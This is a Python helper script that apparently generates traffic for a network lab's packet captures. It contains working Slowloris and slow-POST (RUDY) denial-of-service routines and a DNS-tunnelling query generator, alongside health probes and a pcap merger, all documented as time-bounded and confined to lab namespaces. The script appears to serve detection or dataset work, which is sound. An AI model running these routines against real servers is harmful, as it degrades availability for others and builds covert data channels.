#!/usr/bin/env python3
"""Bounded traffic helpers of extra-pcaps.sh (stdlib only).

Every subcommand stops by itself: each has a deadline and a bounded number of
sockets, probes or queries, and extra-pcaps.sh runs each under `timeout` too.
They only run inside olab-* network namespaces, against the addresses given on
the command line.  The shared lab's labtools.py (LAB_DIR, default
../../../../shared/lab beside this file) is reused for its DNS query encoder.

  probes     HOST SECS SEED UA SPEC...          kubelet-like health probes
             SPEC = http:PORT:PATH@PERIOD | tcp:PORT@PERIOD
  slowloris  HOST PORT CONNS SECS INTERVAL RAMP SEED
             partial requests opened over RAMP s, a random header line every
             INTERVAL s (jittered) on each until SECS
  slowpost   HOST PORT PATH CONNS SECS INTERVAL CHUNK CLEN SEED
             R-U-Dead-Yet: POST with Content-Length CLEN, CHUNK body bytes every
             INTERVAL s per connection until SECS
  dnstunnel  SERVER DOMAIN N ENC LABELLEN NLABELS QTYPE SLEEP_MS SEED PER_SOCK
             ENC = hex | b64url | b32
  pcapmerge  OUT IN...                           merge per-port captures by time,
             dropping the extra copies of flooded broadcast/multicast frames
"""
import base64
import hashlib
import heapq
import os
import random
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
LAB_DIR = os.environ.get("LAB_DIR") or os.path.join(HERE, "..", "..", "..", "..", "shared", "lab")
MAX_SOCKS = 1000


def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def hosthdr(host, port):
    h = f"[{host}]" if ":" in host else host
    return h if int(port) == 80 else f"{h}:{port}"


# ---------------------------------------------------------------- health probes
def probes(host, secs, seed, ua, *specs):
    """Each probe fires every PERIOD s from a random phase until SECS, like a kubelet:
    an HTTP probe is a fresh connection with one GET and Connection: close; a TCP probe
    opens the connection and closes it at once.  At most 2000 probes in all."""
    rnd = random.Random(int(seed))
    deadline = time.time() + float(secs)
    heap = []
    for i, spec in enumerate(specs):
        body, period = spec.rsplit("@", 1)
        heapq.heappush(heap, (time.time() + rnd.uniform(0, float(period)), i, body, float(period)))
    n = 0
    while heap and n < 2000:
        due, i, body, period = heapq.heappop(heap)
        if due > deadline:
            break
        time.sleep(max(0.0, due - time.time()))
        n += 1
        parts = body.split(":", 2)
        try:
            s = socket.create_connection((host, int(parts[1])), timeout=1.0)
            if parts[0] == "http":
                s.sendall((f"GET {parts[2]} HTTP/1.1\r\nHost: {hosthdr(host, parts[1])}\r\n"
                           f"User-Agent: {ua}\r\nAccept: */*\r\nConnection: close\r\n\r\n").encode())
                while s.recv(4096):
                    pass
            s.close()
        except OSError:
            pass
        heapq.heappush(heap, (due + period, i, body, period))


# ---------------------------------------------------------------- slowloris (ramp)
HDR_NAMES = ["X-a", "X-Requested-With", "Cookie", "Accept-Encoding", "X-Forwarded-For",
             "Cache-Control", "Referer", "X-Trace"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (X11; Linux x86_64)",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_4)", "curl/7.88.1", "python-requests/2.31"]


def slowloris(host, port, conns, secs, interval, ramp, seed):
    rnd = random.Random(int(seed))
    start = time.time()
    deadline = start + float(secs)
    conns = min(int(conns), MAX_SOCKS)
    gap = float(ramp) / max(1, conns)
    socks = []       # [socket, next send time]
    opened = 0
    while time.time() < deadline:
        now = time.time()
        while opened < conns and now >= start + opened * gap:
            opened += 1
            try:
                s = socket.socket(family(host), socket.SOCK_STREAM)
                s.settimeout(2)
                s.connect((host, int(port)))
                s.sendall((f"GET /{rnd.choice(['', 'index.html', 'search'])}?q={rnd.randrange(10**7)} "
                           f"HTTP/1.1\r\nHost: {hosthdr(host, port)}\r\nUser-Agent: {rnd.choice(UAS)}\r\n"
                           "Accept-language: en-US,en;q=0.5\r\n").encode())
                socks.append([s, now + float(interval) * rnd.uniform(0.5, 1.5)])
            except OSError:
                pass
        for e in list(socks):
            if now >= e[1]:
                try:
                    e[0].sendall(f"{rnd.choice(HDR_NAMES)}: {rnd.randrange(1, 99999)}\r\n".encode())
                    e[1] = now + float(interval) * rnd.uniform(0.5, 1.5)
                except OSError:
                    socks.remove(e)
        time.sleep(0.02)
    for e in socks:
        try:
            e[0].close()
        except OSError:
            pass


# ---------------------------------------------------------------- slow POST (RUDY)
def slowpost(host, port, path, conns, secs, interval, chunk, clen, seed):
    rnd = random.Random(int(seed))
    deadline = time.time() + float(secs)
    conns = min(int(conns), MAX_SOCKS)
    socks = []
    for _ in range(conns):
        if time.time() > deadline:
            break
        try:
            s = socket.socket(family(host), socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect((host, int(port)))
            s.sendall((f"POST {path} HTTP/1.1\r\nHost: {hosthdr(host, port)}\r\n"
                       f"User-Agent: {rnd.choice(UAS)}\r\n"
                       "Content-Type: application/x-www-form-urlencoded\r\n"
                       f"Content-Length: {int(clen)}\r\nConnection: keep-alive\r\n\r\n"
                       "comment=").encode())
            socks.append(s)
        except OSError:
            pass
        time.sleep(rnd.uniform(0.005, 0.03))
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    while time.time() < deadline:
        time.sleep(min(float(interval), max(0.0, deadline - time.time())))
        for s in list(socks):
            try:
                s.sendall("".join(rnd.choice(alphabet) for _ in range(int(chunk))).encode())
            except OSError:
                socks.remove(s)
    for s in socks:
        try:
            s.close()
        except OSError:
            pass


# ---------------------------------------------------------------- DNS tunnel
def encode(data, enc):
    if enc == "hex":
        return data.hex()
    if enc == "b64url":
        return base64.urlsafe_b64encode(data).decode().rstrip("=")
    if enc == "b32":
        return base64.b32encode(data).decode().rstrip("=").lower()
    raise SystemExit(f"unknown encoding {enc}")


def dnstunnel(server, domain, n, enc, labellen, nlabels, qtype, sleep_ms, seed, per_sock):
    sys.path.insert(0, LAB_DIR)
    import labtools           # the shared lab's query encoder and paced sender
    rnd = random.Random(int(seed))
    random.seed(int(seed) + 1)
    labellen, nlabels = int(labellen), int(nlabels)
    need = labellen * nlabels
    queries = []
    for i in range(int(n)):
        text = ""
        while len(text) < need:
            text += encode(bytes(rnd.randrange(256) for _ in range(need)), enc)
        text = text[:need]
        labels = [text[k * labellen:(k + 1) * labellen] for k in range(nlabels)]
        name = ".".join(labels + [f"{i:x}", domain])
        if len(name) > 253:
            raise SystemExit(f"name too long ({len(name)})")
        queries.append((name, qtype))
    labtools.send_queries(server, queries, float(sleep_ms), time.time() + 300, int(per_sock))


# ---------------------------------------------------------------- pcap merge
def read_records(path, idx):
    with open(path, "rb") as f:
        gh = f.read(24)
        if len(gh) < 24:
            return
        endian = "<" if struct.unpack("<I", gh[:4])[0] in (0xa1b2c3d4, 0xa1b23c4d) else ">"
        nano = struct.unpack(endian + "I", gh[:4])[0] == 0xa1b23c4d
        rh = struct.Struct(endian + "IIII")
        while True:
            h = f.read(16)
            if len(h) < 16:
                return
            sec, frac, incl, orig = rh.unpack(h)
            data = f.read(incl)
            yield (sec + frac / (1e9 if nano else 1e6), idx, endian, h, data)


def pcapmerge(out, *inputs):
    """Merge captures of several switch ports into one, in time order.  A unicast frame
    crosses one server-facing port only (the servers never talk to each other), so it is
    in one input; a broadcast or multicast frame is flooded to every port, so it is in
    several: only its first copy is kept (same bytes within 0.5 s)."""
    inputs = [p for p in inputs if os.path.getsize(p) >= 24]
    if not inputs:
        raise SystemExit("pcapmerge: no input")
    with open(inputs[0], "rb") as f:
        gh = f.read(24)
    endian = "<" if struct.unpack("<I", gh[:4])[0] in (0xa1b2c3d4, 0xa1b23c4d) else ">"
    seen = {}
    kept = dropped = 0
    with open(out, "wb") as w:
        w.write(gh)
        for ts, idx, e, h, data in heapq.merge(*(read_records(p, i) for i, p in enumerate(inputs))):
            if e != endian:
                raise SystemExit("pcapmerge: inputs of different byte order")
            if data and data[0] & 1:               # group-addressed destination MAC
                key = hashlib.sha1(data).digest()
                last = seen.get(key)
                if last is not None and last[1] != idx and ts - last[0] <= 0.5:
                    dropped += 1
                    continue
                seen[key] = (ts, idx)
                if len(seen) > 100000:
                    seen = {k: v for k, v in seen.items() if ts - v[0] <= 0.5}
            w.write(h)
            w.write(data)
            kept += 1
    print(f"{kept} {dropped}")


def main():
    if len(sys.argv) < 2:
        raise SystemExit(__doc__)
    cmd, args = sys.argv[1], sys.argv[2:]
    fn = {"probes": probes, "slowloris": slowloris, "slowpost": slowpost,
          "dnstunnel": dnstunnel, "pcapmerge": pcapmerge}[cmd]
    fn(*args)


if __name__ == "__main__":
    main()
